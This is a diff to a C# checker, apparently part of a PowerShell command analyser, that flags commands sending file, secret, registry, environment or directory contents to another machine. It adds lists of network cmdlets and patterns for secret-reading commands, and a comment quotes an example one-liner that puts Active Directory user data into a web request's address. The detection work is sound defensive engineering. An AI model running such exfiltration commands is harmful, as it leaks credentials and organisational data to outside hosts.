@@ -1,3 +1,4 @@
+using System.Collections.Frozen;
 using System.Text.RegularExpressions;
 
 namespace Firstlook.Effects.PowerShell;
@@ -5,16 +6,29 @@ namespace Firstlook.Effects.PowerShell;
 /// <summary>What files, the registry, a directory or the environment hold, and then stands in the address of a request: <c>irm "https://h/?x=$(Get-ADUser -Filter *)"</c>.</summary>
 internal static partial class SentOn
 {
-    /// <summary>Whether a text shows what such a place holds.</summary>
-    public static bool Holds(string text) => Held().IsMatch(text);
+    static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.OrdinalIgnoreCase,
+        "Invoke-RestMethod", "Invoke-WebRequest", "Resolve-DnsName", "Test-NetConnection", "Test-Connection", "nslookup", "nslookup.exe", "ping", "ping.exe", "curl.exe", "curl", "Test-WSMan", "New-WebServiceProxy", "Invoke-Sqlcmd", "Connect-PSSession", "Get-CimInstance");
 
-    /// <returns>Why the text is no read; null where no address carries what is held.</returns>
+    /// <returns>Why a text is no read; null where it sends nothing on that is held.</returns>
     public static string? Problem(string text) =>
-        Held().IsMatch(text) && Carrying().IsMatch(text) ? "what is held here may be part of an address"
+        Content().IsMatch(text) && Sends(text) ? "what a file holds may be sent to another machine"
+        : Held().IsMatch(text) && Carrying().IsMatch(text) ? "what is held here may be part of an address"
         : WithEnvironment().IsMatch(text) ? "what the environment holds is part of an address" : null;
 
+    /// <summary>Whether a text asks another machine with a variable.</summary>
+    public static bool Sends(string text) => Sending().IsMatch(text);
+
+    /// <returns>Why one command is no read, by what it sends; null where it sends nothing of the kind.</returns>
+    public static Verdict? Judge(string name, IReadOnlyList<PowerShellToken> tokens, IReadOnlyList<Argument> words)
+    {
+        // about_Subexpression: what a file holds is put into an address, a name or a body.
+        if (Senders.Contains(name) && tokens.Skip(1).Any(token => Content().IsMatch(token.Text) || token.Inner.Any(inner => Content().IsMatch(inner) || Held().IsMatch(inner)) || token.Kind == PowerShellKind.Parenthesis && Held().IsMatch(token.Text))) return Verdict.Unknown("what a file holds is sent to another machine");
+        if (name is not ("Invoke-RestMethod" or "Invoke-WebRequest" or "irm" or "iwr")) return null;
+        return Body(tokens) ?? (SignsIn(words) ? Verdict.Unknown("it signs in at somebody's machine") : null);
+    }
+
     /// <summary>A GET's body becomes its query (Invoke-RestMethod, "-Body").</summary>
-    public static Verdict? Body(IReadOnlyList<PowerShellToken> tokens)
+    static Verdict? Body(IReadOnlyList<PowerShellToken> tokens)
     {
         for (var at = 1; at + 1 < tokens.Count; at++)
         {
@@ -27,8 +41,14 @@ internal static partial class SentOn
     }
 
     /// <summary>-UseDefaultCredentials signs in as this user, wherever the address leads: a name with a dot that is none of the own network's may be anybody's.</summary>
-    public static bool SignsIn(IReadOnlyList<Argument> words) =>
+    static bool SignsIn(IReadOnlyList<Argument> words) =>
         words.Any(word => word.Text.StartsWith("-UseDef", StringComparison.OrdinalIgnoreCase)) && words.Skip(1).Any(word => Host().Match(word.Text) is { Success: true } host && !Own().IsMatch(host.Groups["host"].Value));
+
+    [GeneratedRegex(@"(?<![\w-])((Invoke-RestMethod|Invoke-WebRequest|irm|iwr|Resolve-DnsName|nslookup|curl|ping)(\.exe)?\s[^\n;|]*\$|(Test-NetConnection|tnc|Test-Connection)\s[^\n;|]*(""[^""\n]*\$|\$\())", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    private static partial Regex Sending();
+
+    [GeneratedRegex(@"(?<![\w-])(Get-Content|gc|cat|type|Get-Secret|ReadAllText|ReadAllBytes|ReadAllLines|ConvertFrom-SecureString|Get-Clipboard|Import-Csv|Import-Clixml)(?![\w-])", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    private static partial Regex Content();
 
     [GeneratedRegex(@"(?<key>[\w.-]+)['""]?\s*=\s*['""]?(?<value>[^'"";\n&]*)", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Pair();
